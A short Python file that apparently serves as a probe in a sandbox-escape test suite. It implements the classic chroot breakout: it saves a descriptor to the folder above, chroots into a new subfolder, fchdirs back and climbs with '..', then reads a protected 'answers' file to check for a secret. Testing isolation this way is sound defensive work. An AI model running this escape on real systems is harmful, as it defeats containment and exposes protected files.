"""Breaks out of its root by a descriptor of a folder above."""

import os

STOPPED_AT = "L0"
THROUGH_AT = None


def attack(t):
    os.mkdir("inner")
    fd = os.open(".", os.O_RDONLY)
    os.chroot("inner")
    os.fchdir(fd)
    for _ in range(50):
        os.chdir("..")
    return "SECRET" in open("." + t["answers"]).read()
